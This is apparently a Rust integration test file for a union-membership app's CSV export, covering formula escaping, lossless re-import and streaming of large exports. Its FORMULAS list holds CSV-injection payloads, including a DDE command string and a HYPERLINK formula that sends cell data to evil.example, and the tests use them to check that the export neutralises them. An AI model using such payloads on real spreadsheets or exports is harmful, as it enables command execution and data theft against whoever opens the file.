//! The members CSV export over HTTP: formulas in member data are written as text (a single
//! quote in front), an exported file re-imports as it was, and a large export is complete.

use picket_domain::members::import::{parse_file, ColumnMap};
use picket_domain::members::MemberDetails;
use picket_domain::Role;
use picket_store::contract::member_writes;
use picket_store::Branch;
use picket_test_support::TestApp;

/// Values a spreadsheet would run as formulas, or that hide one behind a control character.
const FORMULAS: [&str; 8] = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
];

async fn organiser(app: &TestApp) -> (Branch, reqwest::Client) {
    let branch = app.branch("north").await;
    app.user(&branch, "org@example.org", Role::Organiser).await;
    let client = app.client();
    app.login(&client, "org@example.org").await;
    (branch, client)
}

/// The export's rows, header first, read back by a CSV reader.
async fn export(app: &TestApp, client: &reqwest::Client) -> Vec<Vec<String>> {
    let response = client
        .get(app.url("/north/members/export.csv?reason=record-keeping"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let bytes = response.bytes().await.unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn details(number: &str, name: &str) -> MemberDetails {
    MemberDetails::new(number.parse().unwrap(), name)
}

#[tokio::test]
async fn formulas_in_member_data_are_exported_as_text() {
    let app = TestApp::spawn().await;
    let (branch, client) = organiser(&app).await;
    let store = app.store();
    for (n, formula) in FORMULAS.iter().enumerate() {
        let mut d = details(&format!("F{n}"), formula);
        d.employer = Some((*formula).to_string());
        d.workplace = Some(format!("Site {n}"));
        member_writes::create_member(&*store, branch.id, &d, None)
            .await
            .unwrap();
    }
    let mut phone = details("P1", "Ana Phone");
    phone.phone = Some("+44 20 7946 0000".parse().unwrap());
    phone.job_title = Some("-".into());
    member_writes::create_member(&*store, branch.id, &phone, None)
        .await
        .unwrap();

    let rows = export(&app, &client).await;
    assert_eq!(rows.len(), 1 + FORMULAS.len() + 1);
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (name, employer, workplace, phone_at, job) = (
        column("name"),
        column("employer"),
        column("workplace"),
        column("phone"),
        column("job_title"),
    );
    let dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '＝'];
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(dangerous),
                "a cell a spreadsheet would run: {cell:?} in {row:?}"
            );
        }
    }
    for formula in FORMULAS {
        let row = rows
            .iter()
            .find(|r| r[employer] == format!("'{formula}"))
            .unwrap_or_else(|| panic!("{formula:?} is not exported quoted: {rows:?}"));
        // The store keeps names trimmed.
        assert_eq!(row[name], format!("'{}", formula.trim()));
        assert!(
            row[workplace].starts_with("Site "),
            "ordinary cells unchanged"
        );
    }
    let ana = rows.iter().find(|r| r[name] == "Ana Phone").unwrap();
    assert_eq!(ana[phone_at], "'+44 20 7946 0000");
    assert_eq!(ana[job], "'-");
}

#[tokio::test]
async fn an_exported_file_reimports_as_it_was() {
    let app = TestApp::spawn().await;
    let (branch, client) = organiser(&app).await;
    let store = app.store();
    let team = member_writes::create_team(&*store, branch.id, "Duty", None)
        .await
        .unwrap();
    let mut originals = Vec::new();
    for (n, name) in [
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)",
        "-2+3",
        "@SUM(A1)",
        "'t Hart",
        "''Quoted",
        "O'Brien, Mary",
        "Plain Name",
    ]
    .iter()
    .enumerate()
    {
        let mut d = details(&format!("R{n}"), name);
        d.phone = Some(
            if n % 2 == 0 {
                "+44 20 7946 0000"
            } else {
                "020 7946 0000"
            }
            .parse()
            .unwrap(),
        );
        d.employer = Some("=Northfield Council".into());
        d.daily_pay_pence = Some(12_345);
        d.is_rep = n == 1;
        d.contact.by_email = true;
        d.contact.consent_wording = Some("-Yes, by email".into());
        d.contact.consent_date = Some("2024-05-01".parse().unwrap());
        member_writes::create_member(&*store, branch.id, &d, Some(team.id))
            .await
            .unwrap();
        originals.push(d);
    }
    let response = client
        .get(app.url("/north/members/export.csv?reason=record-keeping"))
        .send()
        .await
        .unwrap();
    let bytes = response.bytes().await.unwrap();
    let parsed = parse_file(&bytes, &ColumnMap::default()).unwrap();
    assert!(parsed.rejected.is_empty(), "{:?}", parsed.rejected);
    assert_eq!(parsed.rows.len(), originals.len());
    for original in &originals {
        let back = parsed
            .rows
            .iter()
            .find(|r| r.details.membership_number == original.membership_number)
            .unwrap();
        assert_eq!(&back.details, original, "{}", original.name);
        assert_eq!(back.team.as_deref(), Some("Duty"));
    }
}

/// A members file of `n` rows, numbered so they sort as they were made.
fn generated(n: usize) -> String {
    let mut csv = String::from("Member No,Full Name,Email,Phone,Workplace,Daily pay\n");
    for i in 0..n {
        csv.push_str(&format!(
            "M{i:06},Member {i},member{i}@example.org,+44 20 7946 {:04},\"Civic Centre, Northfield\",{}.{:02}\n",
            i % 10_000,
            90 + i % 50,
            i % 100
        ));
    }
    csv
}

/// Imports `n` generated members straight into the store.
async fn import(app: &TestApp, branch: &Branch, n: usize) {
    let file = parse_file(generated(n).as_bytes(), &ColumnMap::default()).unwrap();
    assert!(file.rejected.is_empty());
    let options = picket_store::members::ImportOptions {
        dry_run: false,
        today: chrono::Utc::now().date_naive(),
        save_map: None,
    };
    member_writes::import_members(&*app.store(), branch.id, &file, &options)
        .await
        .unwrap();
}

#[tokio::test]
async fn an_export_of_thousands_streams_every_member_once() {
    let app = TestApp::spawn().await;
    let (branch, client) = organiser(&app).await;
    // More than three of the export's batches, the last one short.
    let n = 3 * picket_web::members::EXPORT_BATCH as usize + 517;
    import(&app, &branch, n).await;
    let response = client
        .get(app.url("/north/members/export.csv?reason=record-keeping"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert!(
        response.headers().get("content-length").is_none(),
        "streamed, not built whole first"
    );
    assert_eq!(response.headers()["cache-control"], "no-store");
    let bytes = response.bytes().await.unwrap();
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows.len(), n + 1);
    assert_eq!(
        rows[0][..4],
        ["membership_number", "name", "email", "phone"]
    );
    for (i, row) in rows[1..].iter().enumerate() {
        assert_eq!(row[0], format!("M{i:06}"), "each member once, in order");
    }
    let last = &rows[n];
    assert_eq!(
        last[..4],
        [
            format!("M{:06}", n - 1),
            format!("Member {}", n - 1),
            format!("member{}@example.org", n - 1),
            format!("'+44 20 7946 {:04}", (n - 1) % 10_000),
        ]
    );
    assert_eq!(rows[1001][6], "Civic Centre, Northfield");
    assert_eq!(rows[1001][8], "90.00");
    // Audited once, with the reason and the count, as before.
    let exports = app
        .store()
        .audit_search(
            branch.id,
            &picket_store::AuditFilter {
                actor: None,
                action_prefix: Some("member.export".into()),
            },
            picket_store::PageRequest::default(),
        )
        .await
        .unwrap();
    assert_eq!(exports.total, 1);
    assert_eq!(
        exports.items[0].detail.as_deref(),
        Some(format!("reason=record-keeping; rows={n}").as_str())
    );
}
